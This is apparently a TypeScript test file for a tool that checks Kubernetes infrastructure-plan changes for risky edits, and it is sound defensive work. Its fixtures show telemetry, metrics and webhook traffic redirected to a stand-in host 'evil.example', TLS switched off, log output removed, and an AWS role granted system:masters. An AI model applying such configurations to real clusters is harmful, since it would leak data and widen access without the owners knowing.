import { outputsOf } from '../../../plan/kubernetes/shippers';
import { deleted, found, ids } from '../made';
import { changed, made, manifest, metadata } from './shapes';

// Whom a cluster sends logs, metrics, requests and what its API is asked.

const config = (text: string, name = 'fluent-bit') => ({
  metadata: metadata({ name }),
  data: { 'fluent-bit.conf': text },
});
const output = (...lines: string[]) =>
  ['[FILTER]', '    Name grep', '[OUTPUT]', ...lines.map((line) => `    ${line}`)].join('\n');
const es = output('Name es', 'Match *', 'Host logs.corp.example', 'Port 9200', 'tls On', 'tls.verify On');
const to = (text: string) => changed('kubernetes_config_map_v1', config(es), config(text));
const otel = (endpoint: string) => `receivers:\n  otlp: {}\nexporters:\n  otlp:\n    endpoint: ${endpoint}\n`;
const service = (spec: object) => ({
  metadata: metadata(),
  spec: [{ type: 'ClusterIP', port: [{ port: 80 }], ...spec }],
});
const hook = (config: object) => ({
  metadata: metadata(),
  webhook: [{ name: 'w', client_config: [config] }],
});
const prometheus = (...urls: string[]) =>
  manifest('monitoring.coreos.com/v1', 'Prometheus', { spec: { remoteWrite: urls.map((url) => ({ url })) } });

test.each([
  [['network-opened'], 'a receiver more', to(`${es}\n${output('Name http', 'Host evil.example')}`)],
  [['audit-off', 'network-opened'], 'another receiver', to(es.replace('logs.corp', 'logs.evil'))],
  [['audit-off'], 'no receiver', to(output('Name null', 'Match *'))],
  [['audit-off'], 'the configuration goes', deleted('kubernetes_config_map.it', config(es))],
  [['encryption-weakened'], 'no TLS', to(es.replace('tls On', 'tls Off'))],
  [['encryption-weakened'], 'nobody verifies', to(es.replace('verify On', 'verify Off'))],
  [
    ['audit-off', 'network-opened'],
    'a collector to another',
    changed(
      'kubernetes_config_map_v1',
      config(otel('https://a.example:4317')),
      config(otel('https://b.example:4317')),
    ),
  ],
  [
    ['network-opened'],
    'a new collector to somebody',
    made('kubernetes_config_map', config(otel('evil.example:4317'))),
  ],
  [
    ['network-opened'],
    'metrics to another',
    changed('kubernetes_manifest', prometheus(), prometheus('https://evil.example/write')),
  ],
  [
    ['network-opened'],
    'all that the API is asked',
    made('kubernetes_mutating_webhook_configuration_v1', hook({ url: 'https://evil.example/m' })),
  ],
  [
    ['entrance-closed', 'network-opened'],
    'requests of pods',
    changed(
      'kubernetes_service_v1',
      service({ selector: { app: 'a' } }),
      service({ type: 'ExternalName', external_name: 'evil.example' }),
    ),
  ],
] as const)('%j: %s', (rules, _, change) => expect(ids(change)).toEqual(rules));

test.each([
  ['another filter', to(es.replace('grep', 'modify'))],
  [
    'the same receivers in another order',
    changed(
      'kubernetes_config_map_v1',
      config(`${es}\n${output('Name http', 'Host b.example')}`),
      config(`${output('Name http', 'Host b.example')}\n${es}`),
    ),
  ],
  ['a receiver in the cluster', made('kubernetes_config_map_v1', config(otel('collector.logs.svc:4317')))],
  [
    'a setting that names a host, and sends nothing',
    changed('kubernetes_config_map_v1', config('host: a.example'), config('host: b.example')),
  ],
  [
    'a webhook in the cluster',
    made(
      'kubernetes_validating_webhook_configuration_v1',
      hook({ service: [{ name: 's', namespace: 'n' }] }),
    ),
  ],
] as const)('nothing is found: %s', (_, change) => expect(ids(change)).toEqual([]));

test('a receiver more beside those of before ends nothing', () => {
  const one = 'clients:\n  - url: http://a.example/push\n';
  const change = changed(
    'kubernetes_config_map_v1',
    config(one),
    config(`${one}  - url: http://b.example/push\n`),
  );
  expect(ids(change)).toEqual(['network-opened']);
});

test('a configuration that gets another name sends as ever', () => {
  const change = [
    deleted('kubernetes_config_map_v1.old', config(es, 'fluent-bit-1')),
    { ...made('kubernetes_config_map_v1', config(es, 'fluent-bit-2')) },
  ];
  expect(ids(...change)).toEqual([]);
});

test('the finding names the host', () => {
  expect(found(to(`${es}\n${output('Name http', 'Host evil.example')}`))).toEqual([
    'network-opened: kubernetes_config_map_v1.it sends data to evil.example, which got none before',
  ]);
});

test.each([
  ['[OUTPUT]\n  Name s3\n  bucket logs\n', ['logs']],
  ['<match **>\n  @type elasticsearch\n  host a.example\n</match>', ['a.example']],
  ['sinks:\n  out:\n    type: http\n    uri: https://u:p@a.example:8080/in\n', ['a.example']],
  ['clients:\n  - url: http://loki.example/push\n', ['loki.example']],
  ['[OUTPUT]\n  Name kafka\n  Brokers a.example:9092,b.example:9092\n', ['a.example', 'b.example']],
  [`[OUTPUT]\n  Name http\n  Host ${' '.repeat(3000)}a.example\n`, ['a.example']],
  ['[OUTPUT]\n  Name stdout\n', []],
  ['[INPUT]\n  Name tail\n  Host a.example\n', []],
])('receivers of %j', (text, receivers) => {
  const object = { kind: 'ConfigMap', group: '', name: 'it', namespace: 'n', body: { data: { file: text } } };
  expect(outputsOf(object).flatMap((one) => one.receivers)).toEqual(receivers);
});

test('who of AWS gets which groups of a cluster', () => {
  const map = (...groups: string[]) => ({
    metadata: [{ name: 'aws-auth', namespace: 'kube-system' }],
    data: { mapRoles: `- rolearn: arn:aws:iam::111111111111:role/dev\n  groups: [${groups.join(', ')}]\n` },
  });
  expect(
    found(changed('kubernetes_config_map_v1_data', map('viewers'), map('viewers', 'system:masters'))),
  ).toEqual([
    'cluster-rights-widened: kubernetes_config_map_v1_data.it gives the group system:masters to arn:aws:iam::111111111111:role/dev',
  ]);
  expect(ids(changed('kubernetes_config_map', map('viewers', 'ops'), map('viewers')))).toEqual([]);
  expect(ids(made('kubernetes_config_map', map('system:nodes')))).toEqual([]);
});
